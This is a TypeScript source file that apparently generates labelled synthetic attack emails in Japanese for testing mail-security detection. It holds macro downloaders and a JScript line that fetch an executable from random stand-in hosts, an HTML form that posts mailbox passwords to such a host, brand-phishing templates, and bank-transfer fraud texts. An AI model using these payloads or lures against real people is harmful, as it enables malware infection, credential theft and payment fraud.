/** Attacks on everybody: spread malware, phishing, payment fraud; and the training mail that looks like all of them. */
import type { Random } from '../random.ts'
import { addressOf } from '../random.ts'
import { letterText, signature, TYPES } from './business.ts'
import { neighbour } from './impersonating.ts'
import { colleague, type MailSet, officeTime } from './labelled.ts'
import { escaped, quoted, type Sent } from './letter.ts'
import { downloader, excel, word } from './office.ts'
import { password, thread } from './ordinary.ts'
import { program } from './pe.ts'
import { type Person, stranger } from './people.ts'
import { zip } from './zip.ts'

type Attack = (set: MailSet, random: Random) => Sent[]

const nobody = (random: Random) =>
  `${Array.from({ length: random.whole(5, 9) }, () => random.pick([...'abcdeghiklmnoprstuvz'])).join('')}${random.pick(['.com', '.net', '.ru', '.com.br', '.cn', '.shop', '.top', '.vip'])}`

const several = (set: MailSet, random: Random, count: number) =>
  [...set.world.own.staff].sort(() => random.next() - 0.5).slice(0, count)

/** An invoice with a macro, to many, from a company that nobody knows. */
function invoiceMacro(set: MailSet, random: Random): Sent[] {
  const domain = nobody(random)
  const time = officeTime(set.world, random)
  const no = random.whole(10000, 99999)
  const url = `http://${nobody(random)}/wp-content/${random.whole(10, 99)}/`
  return several(set, random, 5).map((to, i) => {
    const workbook = excel([['請求書', String(no)]], { macros: downloader(url, 'Auto_Open') })
    const name = `請求書_${no + i}.xlsm`
    return set.attack(
      'invoice-macro',
      'ばらまき',
      {
        from: stranger(random.pick(['経理担当', '請求書発行係', 'ご請求窓口']), `info@${domain}`, { signs: false }),
        to: [to],
        subject: random.pick(['請求書の件です。', '【重要】ご請求書', '支払いに関するお知らせ', '写真添付']),
        text: 'お世話になっております。\n\n請求書を添付いたしますので、ご確認ください。\n\nよろしくお願いいたします。',
        attachments:
          i % 2 === 0
            ? [{ name, content: workbook, type: TYPES.xlsm ?? '' }]
            : [{ name: `${no + i}.zip`, content: zip([{ name, content: workbook }]), type: 'application/zip' }],
        time: time + i * 20,
        results: { spf: random.pick(['none', 'softfail', 'pass']), dkim: 'none', dmarc: 'none', signed: '' },
      },
      '面識のない送信元から多数へ、開くと動くマクロ付きの請求書',
      ['macro-document'],
    )
  })
}

/** A stolen thread, answered from somebody's hacked mail account abroad, with an encrypted ZIP. */
function stolenThread(set: MailSet, random: Random): Sent[] {
  const before = thread(set, random).filter((one) => one.letter.from.company !== set.world.own)
  const last = before.at(-1) as Sent
  const writer = last.letter.from
  const pass = password(random).slice(0, 6)
  const name = random.pick(['Form', 'DETAILS', '2026_10', 'attach'])
  return [
    set.attack(
      'stolen-thread',
      'ばらまき',
      {
        from: stranger(writer.name, `sales@${nobody(random)}`, { signs: random.next() < 0.5 }),
        to: [last.letter.to[0] as Person],
        subject: `RE: ${last.letter.subject.replace(/^Re: /, '')}`,
        text: `添付をご確認ください。\n\nPass ${pass}\n\n${signature(writer)}\n${quoted(last, 'outlook')}`,
        attachments: [
          {
            name: `${name}.zip`,
            content: zip(
              [
                {
                  name: `${name}.doc`,
                  content: word(['a'], { macros: downloader(`http://${nobody(random)}/x/`, 'AutoOpen') }),
                },
              ],
              { password: pass, random },
            ),
            type: 'application/zip',
          },
        ],
        time: last.letter.time + 86_400 * 2,
      },
      '盗まれたやり取りを引用し、無関係なアカウントから暗号化ZIP（マクロ）',
      ['macro-document', 'impersonated-sender', 'reworked-mail'],
    ),
  ]
}

/** A script or a program in a plain ZIP. */
function spreadZip(set: MailSet, random: Random): Sent[] {
  const time = officeTime(set.world, random)
  const domain = nobody(random)
  const isExe = random.next() < 0.5
  const name = `IMG${random.whole(1000, 9999)}`
  const inner = isExe
    ? { name: `${name}.jpg.exe`, content: program({ icon: 'program', filling: Buffer.from(name) }) }
    : {
        name: `${name}.js`,
        content: Buffer.from(
          `var a=WScript.CreateObject("MSXML2.XMLHTTP");a.open("GET","http://${nobody(random)}/p.exe",false);a.send();`,
        ),
      }
  return several(set, random, 4).map((to, i) =>
    set.attack(
      'spread-zip',
      'ばらまき',
      {
        from: stranger('', `${random.pick(['admin', 'photo', 'office'])}@${domain}`, { signs: false }),
        to: [to],
        subject: random.pick(['写真', '配達の件', 'Delivery notification', '注文書の確認']),
        text: random.pick([
          '写真を送ります。確認してください。',
          'Please see the attached file.',
          '添付ファイルをご確認下さい。',
        ]),
        attachments: [{ name: `${name}.zip`, content: zip([inner]), type: 'application/zip' }],
        time: time + i * 7,
        results: { spf: 'none', dkim: 'none', dmarc: 'none', signed: '' },
      },
      '面識のない送信元から多数へ、ZIPの中の実行ファイルまたはスクリプト',
      ['executable-attachment', 'double-extension'],
    ),
  )
}

const BRANDS = [
  ['Amazon.co.jp', 'amazon.co.jp', 'お支払い方法に問題があります', 'アカウント情報を更新する'],
  ['三井住友カード', 'smbc-card.com', '【重要】カードご利用確認のお願い', 'ご利用確認はこちら'],
  ['えきねっと', 'eki-net.com', '【えきねっと】アカウントの自動退会処理について', 'ログインする'],
  ['ヤマト運輸', 'kuronekoyamato.co.jp', '住所不明のためお荷物をお届けできません', '再配達を申し込む'],
  ['国税庁', 'nta.go.jp', '税務署からの【未払い税金のお知らせ】', '支払いを確認する'],
  ['Microsoft 365', 'microsoft.com', 'メールボックスの容量が上限に達しました', '容量を増やす'],
] as const

/** A brand's page that isn't: the link shows the real name and leads elsewhere. */
function brand(set: MailSet, random: Random): Sent[] {
  const time = officeTime(set.world, random)
  return several(set, random, 2).flatMap((to, i) => {
    const [name, genuine, subject, button] = random.pick(BRANDS)
    const away =
      random.next() < 0.5
        ? `${genuine.replaceAll('.', '-')}-${random.whole(100, 999)}.${nobody(random)}`
        : nobody(random)
    const url = `https://${away}/login/?m=${random.whole(1e5, 9e5)}`
    const spoof = random.next() < 0.4
    return [
      set.attack(
        'brand',
        'フィッシング',
        {
          from: stranger(name, `no-reply@${nobody(random)}`, { signs: false }),
          ...(spoof ? { headerFrom: `no-reply@${genuine}` } : {}),
          to: [to],
          subject,
          text: `${to.address} 様\n\n${subject}。\n24時間以内に確認が取れない場合、利用を制限します。\n\nhttps://www.${genuine}/signin\n`,
          html: `<html><body><p>${to.address} 様</p><p>${escaped(subject)}。24時間以内に確認が取れない場合、利用を制限します。</p><p><a href="${url}">https://www.${genuine}/signin</a></p><p><a href="${url}" style="background:#f90">${button}</a></p></body></html>`,
          time: time + i * 300,
          results: spoof
            ? { spf: random.pick(['fail', 'softfail']), dkim: 'none', dmarc: 'fail', signed: '' }
            : { spf: 'pass', dkim: 'none', dmarc: 'none', signed: '' },
        },
        `${name}を騙り、表示と異なるリンク先 ${away}`,
        ['download-link', 'impersonated-sender', 'authentication-failure', 'lookalike-domain'],
      ),
    ]
  })
}

/** A page in the attachment that asks for the mail password and sends it away. */
function formPage(set: MailSet, random: Random): Sent[] {
  const { world } = set
  const time = officeTime(world, random)
  return several(set, random, 2).map((to, i) => {
    const page = `<!doctype html><html><head><meta charset="utf-8"><title>Sign in</title></head><body><form method="post" action="https://${nobody(random)}/p.php"><input name="u" value="${to.address}"><input type="password" name="p"><button>表示する</button></form></body></html>`
    return set.attack(
      'form-page',
      'フィッシング',
      {
        from: stranger(`${world.own.domain} 管理者`, `support@${nobody(random)}`, { signs: false }),
        to: [to],
        subject: random.pick([
          '新しいボイスメッセージが届いています',
          `【${world.own.domain}】パスワードの有効期限`,
          '保留中のメールが5通あります',
        ]),
        text: `${to.address} 様\n\n添付のページを開き、メールのパスワードで確認してください。`,
        attachments: [
          { name: `message_${random.whole(100, 999)}.html`, content: Buffer.from(page), type: 'text/html' },
        ],
        time: time + i * 60,
        results: { spf: 'pass', dkim: 'none', dmarc: 'none', signed: '' },
      },
      '自組織の管理者を騙り、添付HTMLの入力欄からパスワードを送らせる',
      ['html-smuggling', 'impersonated-sender', 'download-link'],
    )
  })
}

/** A partner's invoice thread goes on from a look-alike domain, with another bank account. */
function bankChange(set: MailSet, random: Random): Sent[] {
  const before = thread(set, random).filter((one) => one.letter.from.company !== set.world.own)
  const last = before.at(-1) as Sent
  const writer = last.letter.from
  const domain = neighbour(writer.company.domain, random)
  const address = writer.address.replace(/@.*/, `@${domain}`)
  const from: Person = {
    ...writer,
    address,
    company: { ...writer.company, domain, host: `mail.${domain}`, ip: addressOf(domain), signs: false },
  }
  const own = last.letter.to.find((one) => one.company === set.world.own) as Person
  return [
    set.attack(
      'bank-change',
      'ビジネスメール詐欺',
      {
        from,
        to: [own],
        subject: `Re: ${last.letter.subject.replace(/^Re: /, '')}`,
        text: `${letterText(from, own, ['監査の都合により、従来の振込先口座が利用できなくなりました。', `今回のお支払いより、下記の口座へお振込みください。`, `${random.pick(['みずほ', '三菱UFJ', 'ゆうちょ'])}銀行 ${random.whole(100, 999)}支店 普通 ${random.whole(1000000, 9999999)} ${random.pick(['グエン', 'ワン', 'スミス'])}`, '本日中に送金いただき、送金控えをお送りください。'], random)}\n${quoted(last, 'outlook')}`,
        time: last.letter.time + 86_400,
        answers: last,
        results: { spf: 'pass', dkim: 'none', dmarc: 'none', signed: '' },
      },
      `取引先に似たドメイン ${domain} から、実在のやり取りに割り込み振込先の変更を求める`,
      ['lookalike-domain', 'impersonated-sender'],
    ),
  ]
}

/** The head of the house asks for a transfer, secretly and now; the answer goes elsewhere. */
function chief(set: MailSet, random: Random): Sent[] {
  const { world } = set
  const boss = world.own.staff[0] as Person
  const to = colleague(world, boss, random)
  const away = `ceo.office${random.whole(10, 99)}@${random.pick(['gmail.com', 'mail.com', 'protonmail.com'])}`
  const spoof = random.next() < 0.5
  return [
    set.attack(
      'chief',
      'ビジネスメール詐欺',
      {
        from: stranger(boss.name, spoof ? `x@${nobody(random)}` : away, { signs: false }),
        ...(spoof ? { headerFrom: boss.address, replyTo: away } : {}),
        to: [to],
        subject: random.pick(['至急の対応をお願いします', '極秘案件', '今すぐ対応できますか']),
        text: `${to.family}さん\n\n今、会議中で電話に出られません。極秘の案件について、本日中に海外口座への送金が必要です。\n社内の誰にも話さず、このメールに返信してください。\n\n${boss.name}`,
        time: officeTime(world, random),
        results: spoof
          ? { spf: 'softfail', dkim: 'none', dmarc: 'fail', signed: '' }
          : { spf: 'pass', dkim: 'pass', dmarc: 'pass', signed: away.replace(/.*@/, '') },
      },
      '代表者を騙り、秘密の送金を求める（返信先は外部のフリーメール）',
      ['impersonated-sender', 'authentication-failure'],
    ),
  ]
}

export const OTHER_ATTACKS: Attack[] = [invoiceMacro, stolenThread, spreadZip, brand, formPage, bankChange, chief]

/** A training provider sends the same bait to all staff within minutes: harmless, and to be recognised as such. */
export function training(set: MailSet, random: Random): Sent[] {
  const { world } = set
  const time = officeTime(world, random)
  const domain = random.pick(['kunren-mail.jp', 'security-drill.co.jp', 'mail-kunren.net'])
  const subject = random.pick(['【重要】パスワード変更のお願い', '健康診断結果のご案内', '賞与明細の確認'])
  return world.own.staff.map((to, i) => {
    const url = `https://www.${domain}/t/${random.whole(1e7, 9e7)}`
    return set.benign(
      'training',
      {
        from: stranger('情報システム部', `it-support@${domain}`, { style: 'roundcube' }),
        to: [to],
        subject,
        text: `各位\n\n${subject}の件、次のページを至急ご確認ください。\n${url}\n\n情報システム部`,
        time: time + Math.floor(i * 1.5),
        results: { spf: 'pass', dkim: 'pass', dmarc: 'pass', signed: domain },
        extra: ['X-Kunren: 1'],
      },
      { kind: '訓練メール', at_most: 'suspicious' },
    )
  })
}
